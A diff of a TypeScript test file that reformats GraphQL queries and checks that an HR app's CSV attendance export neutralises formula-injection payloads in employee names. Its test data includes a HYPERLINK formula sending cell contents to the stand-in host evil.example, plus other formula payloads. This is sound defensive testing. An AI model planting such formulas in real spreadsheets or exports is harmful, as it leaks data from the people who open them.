@@ -21,9 +21,17 @@ const SUM = '@SUM(1+1)';
 /** How each must appear in the file: quoted, inner quotes doubled, after a single quote. */
 const GUARDED = ['"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"', `"'${CMD}"`, `"'${SUM}"`];
 
-const IMPORT = graphql(`mutation CsvImport($family: AttendanceFamily!, $month: String!, $file: Upload!) {
-  importAttendance(family: $family, month: $month, file: $file) { ok errorCount errorFile { url } }
-}`);
+const IMPORT = graphql(`
+  mutation CsvImport($family: AttendanceFamily!, $month: String!, $file: Upload!) {
+    importAttendance(family: $family, month: $month, file: $file) {
+      ok
+      errorCount
+      errorFile {
+        url
+      }
+    }
+  }
+`);
 
 async function importCsv(csv: string): Promise<{ ok: boolean; errorCount: number; errorFile: { url: string } | null }> {
   const res = await gqlUpload(stack, IMPORT, { family: 'AGENTS', month: '2022-09' }, { file: { name: 'attendance.csv', type: 'text/csv', content: csv } }, hr);
@@ -37,18 +45,45 @@ describe('CSV formula injection', () => {
     for (const [i, name] of [HYPERLINK, CMD, SUM].entries()) {
       const res = await gql(
         stack,
-        graphql(`mutation CsvAddEmployee($input: EmployeeInput!) { addEmployee(input: $input) { id } }`),
+        graphql(`
+          mutation CsvAddEmployee($input: EmployeeInput!) {
+            addEmployee(input: $input) {
+              id
+            }
+          }
+        `),
         {
           input: {
-            name, resId: `EVIL-${i}`, email: `evil${i}@demo.hr`, departmentId: '2', teamId: '1', managerId: '8',
-            role: 0, roleTitle: 'Customer Support Agent', targetHoursPerDay: 8, dateJoined: '2022-01-01', hourlyOrMonthly: 'hourly', hourlyRate: 5,
+            name,
+            resId: `EVIL-${i}`,
+            email: `evil${i}@demo.hr`,
+            departmentId: '2',
+            teamId: '1',
+            managerId: '8',
+            role: 0,
+            roleTitle: 'Customer Support Agent',
+            targetHoursPerDay: 8,
+            dateJoined: '2022-01-01',
+            hourlyOrMonthly: 'hourly',
+            hourlyRate: 5,
           },
         },
         hr,
       );
       expect(res.errors).toBeUndefined();
     }
-    const link = await gql(stack, graphql(`query CsvAttendanceExport { attendanceExport(family: AGENTS, month: "09-2022") { url } }`), {}, hr);
+    const link = await gql(
+      stack,
+      graphql(`
+        query CsvAttendanceExport {
+          attendanceExport(family: AGENTS, month: "09-2022") {
+            url
+          }
+        }
+      `),
+      {},
+      hr,
+    );
     const csv = await downloaded(dataOf(link).attendanceExport.url);
     for (const guarded of GUARDED) expect(csv).toContain(`EVIL-${GUARDED.indexOf(guarded)},${guarded},`);
     for (const raw of [HYPERLINK, CMD, SUM]) expect(csv).not.toMatch(new RegExp(`(^|,)${raw.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`, 'm'));
